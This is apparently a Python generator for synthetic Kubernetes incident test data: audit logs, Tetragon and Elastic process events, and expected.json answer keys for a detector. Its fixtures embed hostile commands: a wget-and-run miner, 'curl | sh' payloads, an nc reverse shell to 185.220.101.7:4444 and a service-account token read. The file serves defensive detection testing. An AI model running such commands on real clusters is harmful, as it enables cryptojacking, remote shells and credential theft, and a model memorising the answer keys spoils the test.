#!/usr/bin/env python3
"""Writes the paired host/audit scenarios in this directory (deterministic; see README.md).

Each scenario directory gets `audit.jsonl` (kube-apiserver v1.29 audit events) and one or more
host files (`process.tetragon.jsonl`, `process.ecs.jsonl`, `proxy.envoy.jsonl`), plus
`expected.json` naming the process lines that medium+ alerts must cite.

Run: python3 tests/data/incidents-paired/generate.py
"""

import datetime as dt
import hashlib
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
UA_KUBECTL = "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f"
UA_KCM = "kube-controller-manager/v1.29.4 (linux/amd64) kubernetes/55019c8/system:serviceaccount:kube-system:{}"
UA_SCHED = "kube-scheduler/v1.29.4 (linux/amd64) kubernetes/55019c8/scheduler"
UA_KUBELET = "kubelet/v1.29.4 (linux/amd64) kubernetes/55019c8"
KCM_IP = "10.0.0.11"
SA_GROUPS = ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"]


def uid(seed):
    h = hashlib.sha1(seed.encode()).hexdigest()
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def ts(t, frac=True):
    if frac:
        return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def controller(name):
    return {
        "username": f"system:serviceaccount:kube-system:{name}",
        "uid": uid("sa-" + name),
        "groups": SA_GROUPS,
    }


class Audit:
    """Collects audit lines; `request` writes RequestReceived + ResponseComplete."""

    def __init__(self):
        self.lines = []

    def request(self, t, verb, uri, user, ua, ips, oref, code, level="Metadata",
                req=None, resp=None, latency_ms=9, annotations=None, received=True,
                impersonated=None):
        aid = uid(f"{uri}{verb}{t.isoformat()}{user['username']}")
        done = t + dt.timedelta(milliseconds=latency_ms)
        base = {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": level,
            "auditID": aid,
        }
        first_oref = dict(oref)
        if verb == "create" and "subresource" not in oref:
            first_oref.pop("name", None)
        if received:
            rr = dict(base, stage="RequestReceived", requestURI=uri, verb=verb, user=user,
                      sourceIPs=ips, userAgent=ua, objectRef=first_oref,
                      requestReceivedTimestamp=ts(t), stageTimestamp=ts(t))
            self.lines.append((t, json.dumps(rr, separators=(",", ":"))))
        rc = dict(base, stage="ResponseComplete", requestURI=uri, verb=verb, user=user)
        if impersonated:
            rc["impersonatedUser"] = impersonated
        rc.update(sourceIPs=ips, userAgent=ua, objectRef=oref,
                  responseStatus={"metadata": {}, "code": code})
        if req is not None and level in ("Request", "RequestResponse"):
            rc["requestObject"] = req
        if resp is not None and level == "RequestResponse":
            rc["responseObject"] = resp
        rc.update(requestReceivedTimestamp=ts(t), stageTimestamp=ts(done))
        ann = {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}
        ann.update(annotations or {})
        rc["annotations"] = ann
        self.lines.append((done, json.dumps(rc, separators=(",", ":"))))
        return aid

    def noise(self, t, node, node_ip, n=1):
        for i in range(n):
            at = t + dt.timedelta(milliseconds=137 * i)
            self.request(at, "update",
                         f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s",
                         {"username": f"system:node:{node}", "groups": ["system:nodes", "system:authenticated"]},
                         UA_KUBELET, [node_ip],
                         {"resource": "leases", "namespace": "kube-node-lease", "name": node,
                          "apiGroup": "coordination.k8s.io", "apiVersion": "v1"}, 200)

    def write(self, path, shuffle_pairs=()):
        """Write lines in stage-time order; `shuffle_pairs` swaps given line indexes afterwards
        (out-of-order delivery by a log shipper)."""
        ordered = [l for _, l in sorted(self.lines, key=lambda x: x[0])]
        for a, b in shuffle_pairs:
            ordered[a], ordered[b] = ordered[b], ordered[a]
        with open(path, "w") as f:
            for l in ordered:
                f.write(l + "\n")
        return ordered


def container(name, image, command):
    return {"name": name, "image": image, "command": command, "resources": {},
            "terminationMessagePath": "/dev/termination-log",
            "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}


def pod_template_spec(c):
    return {"containers": [c], "restartPolicy": "OnFailure", "terminationGracePeriodSeconds": 30,
            "dnsPolicy": "ClusterFirst", "securityContext": {}, "schedulerName": "default-scheduler"}


def cronjob_objects(ns, name, schedule, c, created, cj_uid):
    spec = {"schedule": schedule, "concurrencyPolicy": "Allow", "suspend": False,
            "jobTemplate": {"metadata": {"name": name, "creationTimestamp": None},
                            "spec": {"template": {"metadata": {"creationTimestamp": None},
                                                  "spec": pod_template_spec(c)}}},
            "successfulJobsHistoryLimit": 3, "failedJobsHistoryLimit": 1}
    req = {"kind": "CronJob", "apiVersion": "batch/v1",
           "metadata": {"name": name, "namespace": ns, "creationTimestamp": None}, "spec": spec,
           "status": {}}
    resp = json.loads(json.dumps(req))
    resp["metadata"] = {"name": name, "namespace": ns, "uid": cj_uid, "resourceVersion": "812733",
                        "generation": 1, "creationTimestamp": ts(created, False)}
    return req, resp


def job_objects(ns, cj, cj_uid, job, job_uid, c, created, scheduled=None, manual=False, by_client=False):
    labels = {"batch.kubernetes.io/controller-uid": job_uid, "batch.kubernetes.io/job-name": job,
              "controller-uid": job_uid, "job-name": job}
    ann = {}
    if scheduled:
        ann["batch.kubernetes.io/cronjob-scheduled-timestamp"] = ts(scheduled, False)
    if manual:
        ann["cronjob.kubernetes.io/instantiate"] = "manual"
    owner = [{"apiVersion": "batch/v1", "kind": "CronJob", "name": cj, "uid": cj_uid,
              "controller": True, "blockOwnerDeletion": True}] if cj else []
    spec = {"parallelism": 1, "completions": 1, "backoffLimit": 6, "completionMode": "NonIndexed",
            "suspend": False, "template": {"metadata": {"creationTimestamp": None},
                                            "spec": pod_template_spec(c)}}
    meta_req = {"name": job, "namespace": ns, "creationTimestamp": None}
    if ann:
        meta_req["annotations"] = ann
    if owner:
        meta_req["ownerReferences"] = owner
    req = {"kind": "Job", "apiVersion": "batch/v1", "metadata": meta_req, "spec": spec, "status": {}}
    resp = json.loads(json.dumps(req))
    resp["metadata"].update(uid=job_uid, resourceVersion="812790", generation=1,
                            creationTimestamp=ts(created, False), labels=labels)
    resp["spec"]["template"]["metadata"]["labels"] = labels
    return req, resp


def pod_objects(ns, job, job_uid, pod, pod_uid, c, created):
    labels = {"batch.kubernetes.io/controller-uid": job_uid, "batch.kubernetes.io/job-name": job,
              "controller-uid": job_uid, "job-name": job}
    owner = [{"apiVersion": "batch/v1", "kind": "Job", "name": job, "uid": job_uid,
              "controller": True, "blockOwnerDeletion": True}]
    req = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"generateName": job + "-", "namespace": ns, "creationTimestamp": None,
                        "labels": labels, "ownerReferences": owner},
           "spec": pod_template_spec(c), "status": {}}
    resp = json.loads(json.dumps(req))
    resp["metadata"].update(name=pod, uid=pod_uid, resourceVersion="812795",
                            creationTimestamp=ts(created, False))
    resp["status"] = {"phase": "Pending", "qosClass": "BestEffort"}
    return req, resp


def controller_run(audit, t, ns, cj, cj_uid, c, node, pod_suffix, scheduled):
    """cronjob-controller creates the Job, job-controller the Pod, the scheduler binds it."""
    minutes = int(scheduled.timestamp()) // 60
    job = f"{cj}-{minutes}"
    job_uid = uid("job-" + job)
    req, resp = job_objects(ns, cj, cj_uid, job, job_uid, c, t, scheduled=scheduled)
    job_id = audit.request(t, "create", f"/apis/batch/v1/namespaces/{ns}/jobs",
                           controller("cronjob-controller"), UA_KCM.format("cronjob-controller"), [KCM_IP],
                           {"resource": "jobs", "namespace": ns, "name": job, "apiGroup": "batch",
                            "apiVersion": "v1"}, 201, "RequestResponse", req, resp)
    pod = f"{job}-{pod_suffix}"
    pod_uid = uid("pod-" + pod)
    t2 = t + dt.timedelta(milliseconds=41)
    req, resp = pod_objects(ns, job, job_uid, pod, pod_uid, c, t2)
    pod_id = audit.request(t2, "create", f"/api/v1/namespaces/{ns}/pods",
                           controller("job-controller"), UA_KCM.format("job-controller"), [KCM_IP],
                           {"resource": "pods", "namespace": ns, "name": pod, "apiVersion": "v1"}, 201,
                           "RequestResponse", req, resp)
    t3 = t2 + dt.timedelta(milliseconds=23)
    binding = {"kind": "Binding", "apiVersion": "v1",
               "metadata": {"name": pod, "namespace": ns, "uid": pod_uid, "creationTimestamp": None},
               "target": {"kind": "Node", "name": node}}
    bind_id = audit.request(t3, "create", f"/api/v1/namespaces/{ns}/pods/{pod}/binding",
                            {"username": "system:kube-scheduler", "groups": ["system:authenticated"]},
                            UA_SCHED, [KCM_IP],
                            {"resource": "pods", "namespace": ns, "name": pod, "apiVersion": "v1",
                             "subresource": "binding"}, 201, "Request", binding)
    return {"job": job, "job_uid": job_uid, "pod": pod, "pod_uid": pod_uid,
            "job_audit": job_id, "pod_audit": pod_id, "bind_audit": bind_id}


def tetragon_exec(t, node, binary, args, pid, parent, cwd="/", uid_=0, pod=None, ancestors=None,
                  user=None):
    process = {"exec_id": uid(f"exec{pid}{t}")[:24], "pid": pid, "uid": uid_, "cwd": cwd,
               "binary": binary, "arguments": args, "flags": "execve clone",
               "start_time": ts(t), "auid": 4294967295 if pod else uid_,
               "parent_exec_id": uid(f"exec{parent[0]}")[:24], "tid": pid}
    if user:
        process["user"] = {"name": user}
    if pod:
        process["pod"] = pod
        process["docker"] = pod["container"]["id"].split("://")[1][:31]
    ev = {"process_exec": {"process": process,
                           "parent": {"pid": parent[0], "binary": parent[1], "arguments": parent[2],
                                      "cwd": cwd, "uid": uid_}},
          "node_name": node, "time": ts(t + dt.timedelta(milliseconds=1))}
    if ancestors:
        ev["process_exec"]["ancestors"] = [{"binary": a} for a in ancestors]
    return json.dumps(ev, separators=(",", ":"))


def tetragon_pod(ns, name, cid, cname, image, labels, workload, kind, pid=1):
    return {"namespace": ns, "name": name,
            "container": {"id": "containerd://" + cid, "name": cname,
                          "image": {"id": image + "@sha256:" + hashlib.sha256(image.encode()).hexdigest(),
                                    "name": image},
                          "start_time": "2026-03-10T08:00:00Z", "pid": pid},
            "pod_labels": labels, "workload": workload, "workload_kind": kind}


def write_lines(path, lines):
    with open(path, "w") as f:
        for l in lines:
            f.write(l + "\n")


def scenario_dir(name):
    d = os.path.join(HERE, name)
    os.makedirs(d, exist_ok=True)
    return d


def expected(d, data):
    with open(os.path.join(d, "expected.json"), "w") as f:
        json.dump(data, f, indent=2)
        f.write("\n")


def line_of(lines, needle):
    for i, l in enumerate(lines, 1):
        if needle in l:
            return i
    raise SystemExit(f"not found: {needle}")


# --- 1. kubectl inside a web pod with its service account creates a CronJob (Tetragon with pod
# info); the controllers run it, the miner's sidecar proxy reaches a pool port. ---------------
def pod_sa_cronjob():
    d = scenario_dir("tetragon-pod-sa-cronjob")
    T = dt.datetime(2026, 3, 10, 9, 41, 7, 118000, tzinfo=dt.timezone.utc)
    ns, cj = "web", "cache-warmup"
    a = Audit()
    a.noise(T - dt.timedelta(seconds=20), "worker-2", "10.0.1.12", 3)
    pod_ip = "10.244.2.31"
    sa_user = {"username": "system:serviceaccount:web:storefront", "uid": uid("sa-storefront"),
               "groups": ["system:serviceaccounts", "system:serviceaccounts:web", "system:authenticated"],
               "extra": {"authentication.kubernetes.io/credential-id": ["JTI=4c1f0e6a-1b9e-4bb1-9a43-1f2d3c4b5a69"],
                         "authentication.kubernetes.io/node-name": ["worker-2"],
                         "authentication.kubernetes.io/node-uid": [uid("node-worker-2")],
                         "authentication.kubernetes.io/pod-name": ["storefront-7c9d8b6f5-x2x7q"],
                         "authentication.kubernetes.io/pod-uid": [uid("pod-storefront")]}}
    # Reconnaissance first: `kubectl get cronjobs`.
    a.request(T - dt.timedelta(seconds=31), "list", f"/apis/batch/v1/namespaces/{ns}/cronjobs?limit=500",
              sa_user, UA_KUBECTL, [pod_ip],
              {"resource": "cronjobs", "namespace": ns, "apiGroup": "batch", "apiVersion": "v1"}, 200)
    c = container(cj, "docker.io/library/alpine:3.19",
                  ["/bin/sh", "-c", "wget -qO /tmp/kw http://45.9.148.21/kw && chmod +x /tmp/kw && /tmp/kw -o pool.supportxmr.com:3333"])
    cj_uid = uid("cj-" + cj)
    req, resp = cronjob_objects(ns, cj, "*/5 * * * *", c, T + dt.timedelta(seconds=2), cj_uid)
    # The apiserver logs the request 2.4 s after the process start (kubectl discovery first).
    cj_audit = a.request(T + dt.timedelta(milliseconds=2400), "create",
                         f"/apis/batch/v1/namespaces/{ns}/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict",
                         sa_user, UA_KUBECTL, [pod_ip],
                         {"resource": "cronjobs", "namespace": ns, "name": cj, "apiGroup": "batch", "apiVersion": "v1"},
                         201, "RequestResponse", req, resp)
    sched = dt.datetime(2026, 3, 10, 9, 45, 0, tzinfo=dt.timezone.utc)
    run = controller_run(a, sched + dt.timedelta(milliseconds=12), ns, cj, cj_uid, c, "worker-3", "k7fzq", sched)
    a.noise(sched + dt.timedelta(seconds=3), "worker-3", "10.0.1.13", 2)
    audit_lines = a.write(os.path.join(d, "audit.jsonl"))

    web_pod = tetragon_pod(ns, "storefront-7c9d8b6f5-x2x7q", "0f1e2d3c4b5a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff0",
                           "storefront", "docker.io/library/nginx:1.25",
                           {"app": "storefront", "pod-template-hash": "7c9d8b6f5"}, "storefront", "Deployment", pid=57)
    job_pod = tetragon_pod(ns, run["pod"], "9a8b7c6d5e4f30211203f4e5d6c7b8a99a8b7c6d5e4f30211203f4e5d6c7b8a9",
                           cj, "docker.io/library/alpine:3.19",
                           {"batch.kubernetes.io/controller-uid": run["job_uid"], "batch.kubernetes.io/job-name": run["job"],
                            "controller-uid": run["job_uid"], "job-name": run["job"]}, cj, "CronJob")
    host = [
        tetragon_exec(T - dt.timedelta(seconds=95), "worker-2", "/bin/sh", "-c \"id; uname -a\"", 3101,
                      (3090, "/usr/sbin/nginx", "-g daemon off;"), pod=web_pod),
        tetragon_exec(T - dt.timedelta(seconds=33), "worker-2", "/tmp/kubectl", "get cronjobs", 3140,
                      (3101, "/bin/sh", ""), cwd="/tmp", pod=web_pod),
        tetragon_exec(T, "worker-2", "/tmp/kubectl",
                      f"create cronjob {cj} --image=docker.io/library/alpine:3.19 --schedule=\"*/5 * * * *\" -- /bin/sh -c \"wget -qO /tmp/kw http://45.9.148.21/kw && chmod +x /tmp/kw && /tmp/kw -o pool.supportxmr.com:3333\"",
                      3177, (3101, "/bin/sh", ""), cwd="/tmp", pod=web_pod),
        tetragon_exec(sched + dt.timedelta(seconds=4), "worker-3", "/bin/sh",
                      "-c \"wget -qO /tmp/kw http://45.9.148.21/kw && chmod +x /tmp/kw && /tmp/kw -o pool.supportxmr.com:3333\"",
                      1, (0, "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 9a8b7c6d5e4f"), pod=job_pod),
    ]
    write_lines(os.path.join(d, "process.tetragon.jsonl"), host)
    # Fluent Bit tails the job pod's istio-proxy log (kubernetes filter, no Merge_Log).
    envoy = {"start_time": ts(sched + dt.timedelta(seconds=9))[:-4] + "Z", "method": None, "path": None,
             "protocol": None, "response_code": 0, "response_flags": "-", "bytes_received": 1520,
             "bytes_sent": 88311, "duration": 120344, "upstream_host": "45.9.148.21:3333",
             "upstream_cluster": "PassthroughCluster", "upstream_local_address": "10.244.3.17:51022",
             "downstream_local_address": "45.9.148.21:3333", "downstream_remote_address": "10.244.3.17:51020",
             "authority": None, "x_forwarded_for": None, "user_agent": None, "request_id": None}
    proxy = [
        json.dumps({"time": ts(sched + dt.timedelta(seconds=130)), "stream": "stdout", "_p": "F",
                    "log": json.dumps(envoy, separators=(",", ":")),
                    "kubernetes": {"pod_name": run["pod"], "namespace_name": ns, "pod_id": run["pod_uid"],
                                   "host": "worker-3", "container_name": "istio-proxy",
                                   "docker_id": "77aa", "container_image": "docker.io/istio/proxyv2:1.21.2",
                                   "labels": {"job-name": run["job"]}}}, separators=(",", ":")),
    ]
    write_lines(os.path.join(d, "proxy.envoy.jsonl"), proxy)
    expected(d, {
        "kind": "attack",
        "description": "kubectl run inside a web pod with the pod's service account creates a miner CronJob; the controllers run it on worker-3 and its sidecar reaches a mining pool",
        "inputs": ["audit.jsonl", "process.tetragon.jsonl", "proxy.envoy.jsonl"],
        "must_cite": [{"evidence": "process.tetragon.jsonl:3", "min_severity": "high"}],
        "incident": {
            "min_severity": "high",
            "evidence": ["process.tetragon.jsonl:3", f"audit.jsonl:{line_of(audit_lines, cj_audit)}",
                         f"audit.jsonl:{line_of(audit_lines, run['job_audit'])}",
                         f"audit.jsonl:{line_of(audit_lines, run['pod_audit'])}",
                         "process.tetragon.jsonl:4", "proxy.envoy.jsonl:1"],
            "not_evidence": ["process.tetragon.jsonl:1", "process.tetragon.jsonl:2"],
            "audit_ids": [cj_audit, run["job_audit"], run["pod_audit"]],
        },
    })


# --- 2. kubectl on a CI runner (Tetragon, no pod info) creates a Job with a download-and-run
# payload using a deploy token; a second, routine `kubectl apply` of the app's CronJob manifest
# runs from the same pipeline. -------------------------------------------------------------------
def ci_runner_job():
    d = scenario_dir("tetragon-ci-runner-job")
    T = dt.datetime(2026, 3, 11, 14, 2, 51, 0, tzinfo=dt.timezone.utc)
    ns = "build"
    a = Audit()
    a.noise(T - dt.timedelta(seconds=5), "worker-1", "10.0.1.11", 2)
    deployer = {"username": "system:serviceaccount:build:ci-deployer", "uid": uid("sa-ci-deployer"),
                "groups": ["system:serviceaccounts", "system:serviceaccounts:build", "system:authenticated"]}
    runner_ip = "172.16.8.23"
    c_ok = container("report", "registry.example.com/shop/report:2.4.1", ["/app/report", "--daily"])
    req, resp = cronjob_objects(ns, "daily-report", "30 2 * * *", c_ok, T, uid("cj-daily-report"))
    apply_audit = a.request(T + dt.timedelta(milliseconds=1800), "create",
                            f"/apis/batch/v1/namespaces/{ns}/cronjobs?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
                            deployer, UA_KUBECTL, [runner_ip],
                            {"resource": "cronjobs", "namespace": ns, "name": "daily-report", "apiGroup": "batch", "apiVersion": "v1"},
                            201, "RequestResponse", req, resp)
    c_bad = container("exfil", "docker.io/curlimages/curl:8.6.0",
                      ["sh", "-c", "curl -s http://185.220.101.7/s.sh | sh"])
    job = "db-migrate-hotfix"
    job_uid = uid("job-" + job)
    T2 = T + dt.timedelta(seconds=47)
    req, resp = job_objects(ns, None, None, job, job_uid, c_bad, T2)
    job_audit = a.request(T2 + dt.timedelta(milliseconds=900), "create",
                          f"/apis/batch/v1/namespaces/{ns}/jobs?fieldManager=kubectl-create&fieldValidation=Strict",
                          deployer, UA_KUBECTL, [runner_ip],
                          {"resource": "jobs", "namespace": ns, "name": job, "apiGroup": "batch", "apiVersion": "v1"},
                          201, "RequestResponse", req, resp)
    # job-controller starts the pod (not a CronJob run).
    t3 = T2 + dt.timedelta(milliseconds=1500)
    pod = f"{job}-q2w9d"
    req, resp = pod_objects(ns, job, job_uid, pod, uid("pod-" + pod), c_bad, t3)
    pod_audit = a.request(t3, "create", f"/api/v1/namespaces/{ns}/pods", controller("job-controller"),
                          UA_KCM.format("job-controller"), [KCM_IP],
                          {"resource": "pods", "namespace": ns, "name": pod, "apiVersion": "v1"}, 201,
                          "RequestResponse", req, resp)
    audit_lines = a.write(os.path.join(d, "audit.jsonl"))
    ci = ["/usr/bin/gitlab-runner", "/usr/bin/bash"]
    host = [
        tetragon_exec(T - dt.timedelta(seconds=1), "ci-runner-03", "/usr/local/bin/kubectl",
                      "apply -f k8s/cronjob-daily-report.yaml -n build", 22101,
                      (22090, "/usr/bin/bash", "--login"), cwd="/builds/shop/report", uid_=999,
                      ancestors=ci),
        tetragon_exec(T2, "ci-runner-03", "/usr/local/bin/kubectl",
                      f"--server https://10.0.0.1:6443 --token eyJhbGciOiJSUzI1NiIsImtpZCI6IkRlcGxveSJ9.e30.sig -n {ns} create job {job} --image=docker.io/curlimages/curl:8.6.0 -- sh -c \"curl -s http://185.220.101.7/s.sh | sh\"",
                      22160, (22090, "/usr/bin/bash", "--login"), cwd="/builds/shop/report", uid_=999,
                      ancestors=ci),
    ]
    write_lines(os.path.join(d, "process.tetragon.jsonl"), host)
    expected(d, {
        "kind": "attack",
        "description": "a CI job's shell on ci-runner-03 uses the deploy token to create a Job that pipes a download into sh; the same pipeline's routine apply of a CronJob manifest stays below medium",
        "inputs": ["audit.jsonl", "process.tetragon.jsonl"],
        "must_cite": [{"evidence": "process.tetragon.jsonl:2", "min_severity": "medium"}],
        "below_medium": ["process.tetragon.jsonl:1", f"audit.jsonl:{line_of(audit_lines, apply_audit)}"],
        "incident": {
            "min_severity": "medium",
            "evidence": ["process.tetragon.jsonl:2", f"audit.jsonl:{line_of(audit_lines, job_audit)}",
                         f"audit.jsonl:{line_of(audit_lines, pod_audit)}"],
            "not_evidence": ["process.tetragon.jsonl:1"],
            "audit_ids": [job_audit, pod_audit],
        },
    })


# --- 3. curl with the pod's bearer token POSTs a CronJob (Tetragon, pod info); audit log lines
# arrive out of order (the shipper flushed two buffers in the wrong order). ----------------------
def curl_bearer():
    d = scenario_dir("tetragon-pod-curl-bearer")
    T = dt.datetime(2026, 3, 12, 3, 17, 40, 552000, tzinfo=dt.timezone.utc)
    ns = "default"
    a = Audit()
    a.noise(T - dt.timedelta(seconds=8), "worker-1", "10.0.1.11", 4)
    pod_ip = "10.244.1.77"
    sa = {"username": "system:serviceaccount:default:default", "uid": uid("sa-default"),
          "groups": ["system:serviceaccounts", "system:serviceaccounts:default", "system:authenticated"],
          "extra": {"authentication.kubernetes.io/pod-name": ["reports-api-6d8f7b9c4-t5lm2"],
                    "authentication.kubernetes.io/pod-uid": [uid("pod-reports-api")]}}
    c = container("kube-sync", "docker.io/library/busybox:1.36",
                  ["/bin/sh", "-c", "nc 185.220.101.7 4444 -e /bin/sh"])
    cj = "kube-sync"
    req, resp = cronjob_objects(ns, cj, "* * * * *", c, T, uid("cj-kube-sync"))
    cj_audit = a.request(T + dt.timedelta(milliseconds=640), "create",
                         f"/apis/batch/v1/namespaces/{ns}/cronjobs", sa, "curl/8.5.0", [pod_ip],
                         {"resource": "cronjobs", "namespace": ns, "name": cj, "apiGroup": "batch", "apiVersion": "v1"},
                         201, "RequestResponse", req, resp, received=False)
    audit_lines = a.write(os.path.join(d, "audit.jsonl"), shuffle_pairs=[(1, 8)])
    api_pod = tetragon_pod(ns, "reports-api-6d8f7b9c4-t5lm2", "5c4b3a29181706f5e4d3c2b1a09f8e7d6c5b4a392817f6e5d4c3b2a190f8e7d6",
                           "api", "registry.example.com/reports/api:3.2.0",
                           {"app": "reports-api", "pod-template-hash": "6d8f7b9c4"}, "reports-api", "Deployment", pid=1)
    token = "eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1hbGljZSJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6ZGVmYXVsdDpkZWZhdWx0In0.c2ln"
    host = [
        tetragon_exec(T - dt.timedelta(seconds=12), "worker-1", "/bin/cat",
                      "/var/run/secrets/kubernetes.io/serviceaccount/token", 811,
                      (790, "/bin/sh", ""), pod=api_pod),
        tetragon_exec(T, "worker-1", "/usr/bin/curl",
                      f"-sk -X POST -H \"Authorization: Bearer {token}\" -H \"Content-Type: application/json\" https://kubernetes.default.svc/apis/batch/v1/namespaces/{ns}/cronjobs -d @/tmp/cj.json",
                      815, (790, "/bin/sh", ""), pod=api_pod),
    ]
    write_lines(os.path.join(d, "process.tetragon.jsonl"), host)
    expected(d, {
        "kind": "attack",
        "description": "curl in a pod with its service-account bearer token POSTs a reverse-shell CronJob to /apis/batch/v1/namespaces/default/cronjobs; audit lines out of order",
        "inputs": ["audit.jsonl", "process.tetragon.jsonl"],
        "must_cite": [{"evidence": "process.tetragon.jsonl:2", "min_severity": "high"}],
        "incident": {
            "min_severity": "high",
            "evidence": ["process.tetragon.jsonl:2", f"audit.jsonl:{line_of(audit_lines, cj_audit)}"],
            "not_evidence": ["process.tetragon.jsonl:1"],
            "audit_ids": [cj_audit],
        },
    })


def ecs_doc(shape, t, host, user, args, exe, parent, cwd=None, pid=4000, ppid=3999):
    """One process start in the shape Elastic Defend, Auditbeat or Filebeat writes."""
    cmd = " ".join(args)
    if shape == "defend":
        return {"@timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z",
                "agent": {"type": "endpoint", "version": "8.12.2", "id": uid("agent" + host)},
                "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"},
                "ecs": {"version": "8.10.0"},
                "event": {"action": "exec", "category": ["process"], "dataset": "endpoint.events.process",
                          "kind": "event", "module": "endpoint", "type": ["start"], "id": uid(cmd + str(t))[:20]},
                "host": {"name": host, "hostname": host, "os": {"type": "linux", "family": "ubuntu"},
                         "ip": ["10.20.0.5"]},
                "process": {"pid": pid, "entity_id": uid(str(pid) + host)[:30], "executable": exe,
                            "name": os.path.basename(exe), "args": args, "args_count": len(args),
                            "command_line": cmd, "working_directory": cwd or "/",
                            "parent": {"pid": ppid, "executable": parent[0], "name": os.path.basename(parent[0]),
                                       "args": parent[1], "command_line": " ".join(parent[1])},
                            "user": {"id": "1001", "name": user}},
                "user": {"id": "1001", "name": user}}
    if shape == "auditbeat":
        # Auditbeat's auditd module: seconds precision with an offset, `process.title`.
        local = t.astimezone(dt.timezone(dt.timedelta(hours=1)))
        return {"@timestamp": local.strftime("%Y-%m-%dT%H:%M:%S+01:00"),
                "agent": {"type": "auditbeat", "version": "8.12.2", "hostname": host},
                "ecs": {"version": "8.0.0"},
                "event": {"action": "executed", "category": ["process"], "type": ["start"],
                          "module": "auditd", "kind": "event", "outcome": "success"},
                "host": {"name": host, "hostname": host},
                "process": {"pid": pid, "ppid": ppid, "executable": exe, "name": os.path.basename(exe),
                            "args": args, "title": cmd[:128], "working_directory": cwd or "/",
                            "parent": {"pid": ppid}},
                "user": {"id": "1002", "name": user, "audit": {"id": "1002", "name": user}},
                "auditd": {"sequence": pid * 7, "result": "success", "session": "12",
                           "data": {"syscall": "execve", "tty": "pts1", "argc": str(len(args))}}}
    # Filebeat re-shipping process events with flattened dotted keys and a string category.
    return {"@timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond:06d}Z",
            "event.category": "process", "event.type": "start", "event.module": "system",
            "host.hostname": host, "process.command_line": cmd, "process.executable": exe,
            "process.pid": pid, "process.parent.pid": ppid, "process.parent.executable": parent[0],
            "user.name": user, "log.file.path": "/var/log/process-exec.json"}


# --- 4. A web shell under Tomcat on an app VM creates a CronJob with kubectl (Elastic Defend).
def ecs_webshell():
    d = scenario_dir("ecs-defend-webshell-cronjob")
    T = dt.datetime(2026, 3, 13, 22, 5, 14, 381000, tzinfo=dt.timezone.utc)
    ns = "payments"
    a = Audit()
    a.noise(T - dt.timedelta(seconds=3), "worker-4", "10.0.1.14", 2)
    user = {"username": "deploy-bot@payments.iam.example.com", "groups": ["payments-deployers", "system:authenticated"]}
    c = container("sync", "docker.io/library/alpine:3.19",
                  ["/bin/sh", "-c", "curl -fsSL http://193.142.146.35:8080/x.sh | sh"])
    cj = "ledger-sync"
    req, resp = cronjob_objects(ns, cj, "*/10 * * * *", c, T, uid("cj-" + cj))
    cj_audit = a.request(T + dt.timedelta(seconds=3, milliseconds=120), "create",
                         f"/apis/batch/v1/namespaces/{ns}/cronjobs?fieldManager=kubectl-create&fieldValidation=Strict",
                         user, UA_KUBECTL, ["10.20.0.5"],
                         {"resource": "cronjobs", "namespace": ns, "name": cj, "apiGroup": "batch", "apiVersion": "v1"},
                         201, "RequestResponse", req, resp)
    audit_lines = a.write(os.path.join(d, "audit.jsonl"))
    host = [
        ecs_doc("defend", T - dt.timedelta(seconds=40), "app-vm-07", "tomcat", ["id"], "/usr/bin/id",
                ("/bin/sh", ["/bin/sh", "-c", "id"]), pid=6101, ppid=6100),
        # The web shell runs the command through `sh -c`: the shell's line shows it too, but the
        # kubectl process is the one to cite.
        ecs_doc("defend", T - dt.timedelta(milliseconds=4), "app-vm-07", "tomcat",
                ["/bin/sh", "-c", f"/opt/tools/kubectl --kubeconfig /opt/app/conf/kube.yaml create cronjob {cj} -n {ns} --image=docker.io/library/alpine:3.19 '--schedule=*/10 * * * *' -- /bin/sh -c 'curl -fsSL http://193.142.146.35:8080/x.sh | sh'"],
                "/bin/sh", ("/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
                            ["/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "-Dcatalina.home=/opt/tomcat",
                             "org.apache.catalina.startup.Bootstrap", "start"]),
                cwd="/opt/tomcat", pid=6121, ppid=4410),
        ecs_doc("defend", T, "app-vm-07", "tomcat",
                ["/opt/tools/kubectl", "--kubeconfig", "/opt/app/conf/kube.yaml", "create", "cronjob", cj,
                 "-n", ns, "--image=docker.io/library/alpine:3.19", "--schedule=*/10 * * * *", "--",
                 "/bin/sh", "-c", "curl -fsSL http://193.142.146.35:8080/x.sh | sh"],
                "/opt/tools/kubectl", ("/bin/sh", ["/bin/sh", "-c", "/opt/tools/kubectl ..."]),
                cwd="/opt/tomcat", pid=6122, ppid=6121),
    ]
    write_lines(os.path.join(d, "process.ecs.jsonl"), [json.dumps(h, separators=(",", ":")) for h in host])
    expected(d, {
        "kind": "attack",
        "description": "a web shell under Tomcat's JVM on app-vm-07 runs `sh -c kubectl create cronjob ...` (download-and-run payload); Elastic Defend process events; the kubectl exec, not the shell, leads the incident",
        "inputs": ["audit.jsonl", "process.ecs.jsonl"],
        "must_cite": [{"evidence": "process.ecs.jsonl:3", "min_severity": "high"}],
        "incident": {
            "min_severity": "high",
            "evidence": ["process.ecs.jsonl:3", f"audit.jsonl:{line_of(audit_lines, cj_audit)}"],
            "not_evidence": ["process.ecs.jsonl:1", "process.ecs.jsonl:2"],
            "audit_ids": [cj_audit],
        },
    })


